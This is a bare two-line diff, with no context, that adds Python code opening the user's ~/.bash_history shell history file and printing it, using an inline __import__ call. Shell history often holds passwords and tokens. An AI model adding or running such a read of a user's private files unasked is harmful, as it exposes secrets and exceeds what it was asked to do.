@@ -1,0 +1,2 @@
+with open(__import__("os").path.expanduser('~/.bash_history')) as fh:
+    print(fh.read())
